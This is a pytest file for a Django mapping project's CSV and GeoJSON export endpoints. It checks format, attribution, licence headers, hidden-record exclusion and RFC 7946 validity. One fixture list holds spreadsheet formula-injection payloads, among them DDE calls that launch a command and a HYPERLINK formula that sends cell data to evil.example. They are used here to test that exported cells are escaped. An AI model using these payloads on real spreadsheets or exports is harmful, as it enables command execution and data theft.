"""Whole-set downloads: survmap's CSV format, neutralised against formula injection, credited,
and GeoJSON that follows RFC 7946."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import geojson
import pytest
from django.http import StreamingHttpResponse
from django.test import Client, override_settings
from django.urls import reverse

from survmap.records import csv_format
from survmap.records.models import ATLAS_ATTRIBUTION
from survmap.records.selectors import partnership_list_public
from tests.api.conftest import Record
from tests.factories import AgencyFactory, PartnershipFactory, SourceFactory


def _body(response: Any) -> bytes:
    assert response.status_code == 200, response.content
    if isinstance(response, StreamingHttpResponse):
        return b"".join(response.streaming_content)
    return response.content


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_csv_export_is_each_public_partnership_in_our_format(
    client: Client, record: Record
) -> None:
    body = _body(client.get(reverse("api:export-partnerships-csv")))
    header = body.decode("utf-8-sig").splitlines()[0]
    assert header == ",".join(csv_format.COLUMNS)
    rows = _csv_rows(body)
    expected = [
        {
            name: csv_format.neutralize_cell(value)
            for name, value in csv_format.partnership_row(p).items()
        }
        for p in partnership_list_public().order_by("pk")
    ]
    assert rows == expected
    assert {row["partnership_id"] for row in rows} == {
        str(record.doorbell.pk),
        str(record.face_ended.pk),
    }


def test_csv_export_rows_match_csv_format_for_every_shape_of_record(
    client: Client, record: Record
) -> None:
    """The export builds rows from value tuples for speed: the rows must be exactly what
    csv_format.partnership_row makes of the model instances."""
    agency = AgencyFactory(
        name="Two County Sheriff", counties=["26099", "26125"], ori="MI5086000", city=""
    )
    older = SourceFactory(published_date=dt.date(2019, 1, 1), published_precision="year")
    newer = SourceFactory(
        published_date=dt.date(2020, 5, 1),
        published_precision="month",
        archive_url="https://web.archive.org/web/2020/x",
    )
    printed = SourceFactory(url=None, title="Printed council minutes")
    PartnershipFactory(agency=agency, vendor=None, sources=[newer, older, printed], product="@x")
    PartnershipFactory(
        agency=agency,
        end_date=dt.date(2021, 12, 31),
        end_precision="year",
        start_date=dt.date(2021, 3, 9),
        start_precision="day",
        summary="Ünïcode — “quotes”, commas, and\na new line",
    )
    rows = _csv_rows(_body(client.get(reverse("api:export-partnerships-csv"))))
    expected = [
        {name: csv_format.neutralize_cell(value) for name, value in row.items()}
        for row in map(csv_format.partnership_row, partnership_list_public().order_by("pk"))
    ]
    assert rows == expected
    assert len(rows) == 4


def test_csv_export_carries_licence_and_attribution(client: Client, record: Record) -> None:
    response = client.get(reverse("api:export-partnerships-csv"))
    rows = _csv_rows(_body(response))
    assert 'rel="license"' in response["Link"]
    assert "creativecommons.org/licenses/by/4.0" in response["Link"]
    assert ATLAS_ATTRIBUTION in response["X-Attribution"]
    atlas_row = next(r for r in rows if r["partnership_id"] == str(record.doorbell.pk))
    assert atlas_row["attribution"] == ATLAS_ATTRIBUTION
    assert response["Content-Disposition"].startswith("attachment;")


def test_csv_export_takes_the_map_filters(client: Client, record: Record) -> None:
    rows = _csv_rows(_body(client.get(reverse("api:export-partnerships-csv"), {"state": "CA"})))
    assert [row["partnership_id"] for row in rows] == [str(record.face_ended.pk)]


INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_csv_export_neutralises_formula_cells(client: Client, db: None, payload: str) -> None:
    agency = AgencyFactory(name="Formula Town Police Department", latitude=-33.5, longitude=-70.25)
    partnership = PartnershipFactory(agency=agency, summary=payload, product=payload)
    rows = _csv_rows(_body(client.get(reverse("api:export-partnerships-csv"))))
    row = next(r for r in rows if r["partnership_id"] == str(partnership.pk))
    for column in ("summary", "product"):
        assert row[column] == "'" + payload
        assert csv_format.restore_cell(row[column]) == payload
    # Plain negative numbers and dates are left alone.
    assert row["latitude"] == "-33.5"
    assert row["longitude"] == "-70.25"


@pytest.mark.parametrize("payload", INJECTIONS[:4])
def test_csv_format_on_lists_neutralises_formula_cells(
    client: Client, db: None, payload: str
) -> None:
    agency = AgencyFactory(name="Formula Town Police Department", city=payload)
    PartnershipFactory(agency=agency, summary=payload)
    for name, column in (("api:agency-list", "city"), ("api:partnership-list", "summary")):
        response = client.get(reverse(name), {"format": "csv"})
        assert response["Content-Type"].startswith("text/csv")
        (row,) = _csv_rows(_body(response))
        assert row[column] == "'" + payload


def test_csv_of_partnership_list_is_our_format_with_next_link(
    client: Client, record: Record
) -> None:
    response = client.get(reverse("api:partnership-list"), {"format": "csv", "page_size": 1})
    rows = _csv_rows(_body(response))
    assert list(rows[0]) == list(csv_format.COLUMNS)
    assert 'rel="license"' in response["Link"]


def test_hidden_records_are_in_no_export(client: Client, record: Record) -> None:
    bodies = [
        _body(client.get(reverse("api:export-partnerships-csv"))),
        _body(client.get(reverse("api:export-partnerships-geojson"))),
        _body(client.get(reverse("api:agency-list"), {"format": "geojson"})),
        _body(client.get(reverse("api:partnership-list"), {"format": "csv"})),
        _body(client.get(reverse("api:technology-list"), {"format": "csv"})),
        _body(client.get(reverse("api:vendor-list"), {"format": "csv"})),
        _body(client.get(reverse("api:source-list"))),
        _body(client.get(reverse("api:policyevent-list"))),
    ]
    for body in bodies:
        for secret in (b"Hiddenville", b"Secret", b"unsourced tip", b"Rumoured", b"uncited"):
            assert secret not in body


def _assert_wgs84_feature_collection(collection: dict[str, Any]) -> None:
    """RFC 7946: a valid FeatureCollection, positions [longitude, latitude] in WGS84 ranges."""
    assert collection["type"] == "FeatureCollection"
    parsed = geojson.loads(json.dumps(collection))
    assert parsed.is_valid, parsed.errors()
    assert "crs" not in collection  # RFC 7946 removed it: WGS84 only

    def positions(coordinates: Any) -> list[list[float]]:
        if isinstance(coordinates[0], int | float):
            return [coordinates]
        return [p for part in coordinates for p in positions(part)]

    for feature in collection["features"]:
        assert feature["type"] == "Feature"
        if feature["geometry"] is None:
            continue
        for lon, lat in positions(feature["geometry"]["coordinates"]):
            assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_geojson_export_is_valid_rfc7946_with_credit(client: Client, record: Record) -> None:
    response = client.get(reverse("api:export-partnerships-geojson"))
    assert response["Content-Type"] == "application/geo+json"
    collection = json.loads(_body(response))
    _assert_wgs84_feature_collection(collection)
    assert ATLAS_ATTRIBUTION in collection["attribution"]
    assert "CC BY 4.0" in collection["license"]["notes"]
    by_id = {feature["id"]: feature for feature in collection["features"]}
    assert set(by_id) == {record.doorbell.pk, record.face_ended.pk}
    warren = by_id[record.doorbell.pk]
    assert warren["geometry"] == {"type": "Point", "coordinates": [-83.0147, 42.5145]}
    assert warren["properties"]["location_source"] == "agency"
    assert by_id[record.face_ended.pk]["properties"]["location_source"] == "county_centroid"


def test_agencies_and_regions_geojson_are_valid(client: Client, record: Record) -> None:
    _assert_wgs84_feature_collection(
        client.get(reverse("api:agency-list"), {"format": "geojson"}).json()
    )
    for level in ("state", "county"):
        collection = client.get(reverse("api:regions"), {"format": "geojson", "level": level})
        _assert_wgs84_feature_collection(collection.json())


def test_csv_of_one_record_is_one_row(client: Client, record: Record) -> None:
    response = client.get(
        reverse("api:agency-detail", kwargs={"pk": record.warren.pk}), {"format": "csv"}
    )
    (row,) = _csv_rows(_body(response))
    assert row["name"] == "Warren Police Department"
    assert row["longitude"] == "-83.0147"


def test_credit_owed_for_an_agency_or_a_source_is_given_with_our_own_partnership(
    client: Client, db: None
) -> None:
    """One of our own partnerships (no credit of its own) at an agency, or citing a source,
    that came from the Atlas: every export of it, and its API page, credits the EFF."""
    from_atlas = AgencyFactory(name="Quillfeather Police Department", attribution=ATLAS_ATTRIBUTION)
    ours = PartnershipFactory(agency=from_atlas, attribution="")
    cited = SourceFactory(attribution=ATLAS_ATTRIBUTION)
    elsewhere = AgencyFactory(name="Marrowvale Police Department")
    also_ours = PartnershipFactory(agency=elsewhere, attribution="", sources=[cited])
    for partnership, word in ((ours, "Quillfeather"), (also_ours, "Marrowvale")):
        params = {"q": word}
        csv_response = client.get(reverse("api:export-partnerships-csv"), params)
        assert [row["partnership_id"] for row in _csv_rows(_body(csv_response))] == [
            str(partnership.pk)
        ]
        assert ATLAS_ATTRIBUTION in csv_response["X-Attribution"]
        assert "creativecommons.org/licenses/by/4.0" in csv_response["Link"]
        collection = json.loads(
            _body(client.get(reverse("api:export-partnerships-geojson"), params))
        )
        assert ATLAS_ATTRIBUTION in collection["attribution"]
        page = client.get(reverse("api:partnership-list"), params).json()
        assert [row["id"] for row in page["results"]] == [partnership.pk]
        assert ATLAS_ATTRIBUTION in page["attribution"]
        assert "notes" in page["license"]


@override_settings(SURVMAP_DATA_LICENSE_URL="https://opendatacommons.org/licenses/odbl/1-0/")
def test_a_detail_names_the_licence_of_its_agency_and_sources(client: Client, db: None) -> None:
    """Under a data licence of its own, a detail adds the EFF's CC BY 4.0 only where it shows
    something from the Atlas: here, its agency."""
    ours = PartnershipFactory(agency=AgencyFactory(attribution=ATLAS_ATTRIBUTION), attribution="")
    plain = PartnershipFactory(attribution="")
    atlas_licence = "creativecommons.org/licenses/by/4.0"
    detail = client.get(reverse("api:partnership-detail", kwargs={"pk": ours.pk}))
    assert detail.status_code == 200
    assert atlas_licence in detail["Link"] and "odbl" in detail["Link"]
    other = client.get(reverse("api:partnership-detail", kwargs={"pk": plain.pk}))
    assert other.status_code == 200
    assert "odbl" in other["Link"] and atlas_licence not in other["Link"]
